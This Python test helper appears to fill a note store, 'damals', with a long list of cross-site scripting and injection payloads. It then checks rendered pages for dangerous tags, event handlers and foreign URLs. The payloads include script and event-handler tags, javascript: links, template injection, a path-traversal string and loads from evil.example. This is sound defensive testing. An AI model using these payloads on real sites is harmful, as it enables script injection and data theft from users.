"""Texts that would do something in a page that believed them, and a home that is full of them."""

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from page_tree import Node

from damals.domain.errors import DamalsError
from damals.local import LocalDamals

VECTORS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>", "</script><script>alert(1)</script>",
    "<script\x0c>alert(1)</script>", "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>", "<IMG SRC=javascript:alert(1)>",
    "<img/src/onerror=alert(1)>", '<img """><script>alert(1)</script>">',
    "<img srcset='https://evil.example/a 1x'>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src onerror=alert(1)>",
    "<body onload=alert(1)>", "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<div style=background:url(https://evil.example/x)>x</div>",
    "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<form action=https://evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>", "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))", "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>", "![x](https://evil.example/pixel.png)", "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]", '[x](https://example.org "onmouseover=alert(1) x=")',
    '[x](https://example.org"onmouseover=alert(1)//)', "[[javascript:alert(1)]]",
    "[[x|<img src=x onerror=alert(1)>]]", "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```", '```"><script>alert(1)</script>\nx\n```',
    "~~<img src=x onerror=alert(1)>~~", "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    "> <script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;", "\\<img src=x onerror=alert(1)\\>",
    "{{ 7*7 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}", "${alert(1)}#{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}", "'-alert(1)-'", '";alert(1)//', "'+alert(1)+'",
    "--><img src=x onerror=alert(1)><!--", "]]><script>alert(1)</script>",
    "<div hx-get=https://evil.example hx-trigger=load>x</div>", "<div hx-on:load=alert(1)>x</div>",
    "<a hx-boost=true href=https://evil.example>x</a>", "<x data-confirm=x data-print=x>y</x>",
    "\u202e<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script>",
    "<p id=main>x</p><p id=csrf name=csrf>", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x", "\\\\evil.example\\x", "../../../../etc/passwd",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip

HEADERS = "From: {0}\nSubject: {0}\nMessage-ID: <{0}@evil.example>\n\n{0}"
SCHEMES = ("/", "#", "http://", "https://", "mailto:")
NEVER = (
    "iframe, object, embed, base, frame, applet, math, audio, video, img, marquee, style, template"
)
EACH = 12
"""So many of them share an entry, where they stand in a text."""


@dataclass(frozen=True)
class Stored:
    """A home full of them: ids of entries, of which the last few hold all in their texts."""

    each: tuple[str, ...]
    all: tuple[str, ...]
    notes: tuple[str, ...]
    receipts: tuple[str, ...]


def fields_of(vector: str, number: int) -> Iterator[dict[str, object]]:
    """What an entry is told beside its text; less of it, where that is refused."""
    yield {
        "key": vector, "external_id": f"{vector}{number}", "tags": [vector],
        "source_author": vector,
    }  # fmt: skip
    yield {"key": f"k{number}", "external_id": f"{vector}{number}"}
    yield {"tags": [f"t{number}"]}


def filled_with_vectors(home: LocalDamals, folder: Path) -> Stored:
    """Tell a home all vectors, wherever a text goes."""
    each = tuple(_told(home, vector, number) for number, vector in enumerate(VECTORS))
    groups = [VECTORS[start : start + EACH] for start in range(0, len(VECTORS), EACH)]
    texts = ["\n\n".join((*group, HEADERS.format(group[0]))) for group in groups]
    whole = tuple(
        home.remember(group[0], text, valid_from="2024-01-01", reason=group[1]).id
        for group, text in zip(groups, texts, strict=True)
    )
    for one, (group, text) in zip(whole, zip(groups, texts, strict=True), strict=True):
        home.correct(one, content=text + "\n\nneu " + group[2], title=group[3], reason=group[4])
        home.relate(one, "extends", each[0], reason=group[5])
        home.contradict(one, each[1], reason=group[6])
        home.verify(one, evidence=group[7], reason=group[8])
    asked = home.ask(VECTORS[0])
    ranked = home.recall(VECTORS[6])
    receipts = tuple(one.receipt for one in (asked, ranked) if one.receipt)
    return Stored(each, whole, _notes(home, folder), receipts)


def _told(home: LocalDamals, vector: str, number: int) -> str:
    title = " ".join(vector.split()) or "x"
    for more in fields_of(title, number):
        try:
            text = f"{vector}\n\n[Ziel]({vector})\n\n{HEADERS.format(vector)}"
            return home.remember(title, text, reason=vector, **more).id
        except DamalsError as error:
            refused = error
    raise refused


def _notes(home: LocalDamals, folder: Path) -> tuple[str, ...]:
    """Files whose names and fields are vectors, as far as a file can have such a name."""
    vault = folder / "in" / "<b onclick=alert(1)>"
    vault.mkdir(parents=True)
    for number, vector in enumerate(VECTORS):
        name = vector.replace("/", "∕").replace("\n", " ").replace("\x00", "")[:60]
        front = f'---\nauthor: "{number}"\n---\n'
        (vault / f"{number} {name}.md").write_text(
            f"{front}# {vector}\n\n{vector}\n", encoding="utf-8"
        )
    (vault / "kaputt <img src=x onerror=alert(1)>.md").write_bytes(b"---\ntags: [\n---\n\xff\xfe")
    home.import_(vault)
    return tuple(one.id for one in home.entries(limit=500) if one.source.path)


def harm_in(tree: Node) -> list[str]:
    """What a page must not have that shows texts of others."""
    found = [f"<{one.tag}>" for one in tree.all(NEVER)]
    for one in tree.walk():
        found += [f"{name} of <{one.tag}>" for name in one.attrs if name.startswith("on")]
        found += [f"style of <{one.tag}>"] if "style" in one else []
        if one.tag == "script" and (one.text or not one["src"].startswith("/assets/")):
            found.append("a script")
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            if name in one and not one[name].startswith(SCHEMES):
                found.append(f"{name}={one[name]!r}")
            if one.attrs.get(name, "").startswith("//"):
                found.append(f"{name}={one[name]!r}")
        for name in (name for name in one.attrs if name.startswith("hx-")):
            if name in ("hx-get", "hx-post") and not one[name].startswith("/w/"):
                found.append(f"{name}={one[name]!r}")
    return found
